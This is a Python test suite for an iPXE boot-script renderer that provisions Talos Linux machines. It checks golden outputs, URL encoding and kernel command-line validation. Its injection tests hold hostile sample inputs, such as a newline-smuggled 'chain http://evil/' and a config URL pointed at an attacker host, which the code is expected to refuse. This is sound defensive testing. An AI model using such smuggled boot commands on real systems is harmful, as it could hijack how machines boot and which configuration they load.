"""Exact-text golden tests of every iPXE script variant (UPDATE_GOLDEN=1 regenerates)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from provisioner.web.ipxe import BootPlatform, IpxeError, IpxeRenderer, config_url, kernel_cmdline

GOLDEN = Path(__file__).parent / "golden"
BASE = "http://10.77.0.1:8080"
TOKEN = "tok_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-abcdef"


def renderer() -> IpxeRenderer:
    return IpxeRenderer(BASE)


def install(platform: BootPlatform, **kw: object) -> str:
    values: dict[str, object] = {
        "machine": "r1-n3",
        "asset_set": "talos-1.13.0",
        "platform": platform,
        "asset_cmdline": "",
        "extra_args": [["net.ifnames=0"], ["talos.dashboard.disabled=1"]],
        "token": TOKEN,
    }
    values.update(kw)
    return renderer().install(**values)  # type: ignore[arg-type]


VARIANTS = {
    "boot": lambda: renderer().boot(),
    "install-bios-amd64": lambda: install(BootPlatform("amd64", efi=False)),
    "install-efi-amd64": lambda: install(BootPlatform("amd64", efi=True)),
    "install-efi-arm64": lambda: install(BootPlatform("arm64", efi=True), asset_set="talos-arm64"),
    # A `configCode` cluster: `code=${code}` for Talos, and the dashboard left on to type it.
    "install-efi-amd64-code": lambda: install(
        BootPlatform("amd64", efi=True), extra_args=[["net.ifnames=0"], []], code=True
    ),
    "disk-exit": lambda: renderer().disk(machine="r1-n3", mode="exit"),
    "disk-sanboot": lambda: renderer().disk(machine="r1-n3", mode="sanboot"),
    "hold": lambda: renderer().hold(machine="r1-n3", reason="state-ConfigServed"),
    "unknown": lambda: renderer().unknown(),
    "discovery-bios-amd64": lambda: renderer().discovery(
        asset_set="discovery",
        platform=BootPlatform("amd64", efi=False),
        asset_cmdline="console=ttyS0 inventory.report=1",
    ),
    "discovery-efi-amd64": lambda: renderer().discovery(
        asset_set="discovery", platform=BootPlatform("amd64", efi=True), asset_cmdline="console=ttyS0"
    ),
    "error": lambda: renderer().error(machine="r1-n3", reason="no-asset-set"),
}


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_script_matches_golden(variant: str) -> None:
    text = VARIANTS[variant]()
    path = GOLDEN / f"{variant}.ipxe"
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")
    assert text.startswith("#!ipxe\n")


def test_config_url_hides_talos_variables_from_ipxe() -> None:
    url = config_url(BASE, TOKEN)
    # iPXE would expand (and so erase) any literal ${...}; Talos decodes %24%7B...%7D first.
    assert "${" not in url
    assert url == f"{BASE}/config?t={TOKEN}&uuid=%24%7Buuid%7D&mac=%24%7Bmac%7D"


def test_config_url_with_code_hides_it_from_ipxe() -> None:
    url = config_url(BASE, TOKEN, code=True)
    assert "${" not in url
    assert url == f"{BASE}/config?t={TOKEN}&uuid=%24%7Buuid%7D&mac=%24%7Bmac%7D&code=%24%7Bcode%7D"


def test_code_needs_the_talos_dashboard() -> None:
    # The operator types the code on Talos's dashboard; with it disabled Talos would wait
    # for `${code}` forever, so the script is refused instead.
    with pytest.raises(IpxeError, match=r"talos\.dashboard\.disabled=1"):
        install(BootPlatform("amd64", efi=True), code=True)


def test_cmdline_has_talos_required_and_default_args() -> None:
    line = kernel_cmdline(
        arch="amd64", efi=True, asset_cmdline="", extra=[], talos_config="http://x/config?t=1"
    )
    args = line.split()
    assert args[0] == "initrd=initramfs.xz"
    for required in ("talos.platform=metal", "slab_nomerge", "pti=on", "init_on_alloc=1", "console=ttyS0"):
        assert required in args
    assert args[-1] == "talos.config=http://x/config?t=1"


@pytest.mark.parametrize(
    "bad",
    [
        "x\nchain http://evil/",
        "a b",
        "talos.config=${evil}",
        "quote'",
        'dq"',
        "semi;colon",
        "amp&&amp",
        "back\\slash",
    ],
)
def test_cmdline_rejects_injection(bad: str) -> None:
    with pytest.raises(IpxeError):
        kernel_cmdline(arch="amd64", efi=False, asset_cmdline="", extra=[[bad]], talos_config="http://x/c")


@pytest.mark.parametrize("reserved", ["talos.config=http://evil/c", "talos.platform=aws", "initrd=x"])
def test_cmdline_rejects_reserved_args(reserved: str) -> None:
    with pytest.raises(IpxeError):
        kernel_cmdline(
            arch="amd64", efi=False, asset_cmdline="", extra=[[reserved]], talos_config="http://x/c"
        )


def test_cmdline_rejects_non_list_kernel_args() -> None:
    with pytest.raises(IpxeError):
        kernel_cmdline(
            arch="amd64", efi=False, asset_cmdline="", extra=["console=tty0"], talos_config="http://x/c"
        )


def test_cmdline_length_bounded() -> None:
    with pytest.raises(IpxeError):
        kernel_cmdline(
            arch="amd64",
            efi=False,
            asset_cmdline="",
            extra=[[f"a{i}=" + "x" * 500 for i in range(10)]],
            talos_config="u",
        )


def test_unsafe_machine_name_is_refused() -> None:
    with pytest.raises(IpxeError):
        renderer().hold(machine="x\nchain http://evil/", reason="r")


def test_platform_from_query() -> None:
    assert BootPlatform.from_query("x86_64", "efi") == BootPlatform("amd64", efi=True)
    assert BootPlatform.from_query("arm64", "efi") == BootPlatform("arm64", efi=True)
    assert BootPlatform.from_query("i386", "pcbios") == BootPlatform("amd64", efi=False)
    assert BootPlatform.from_query(None, None) == BootPlatform("amd64", efi=False)
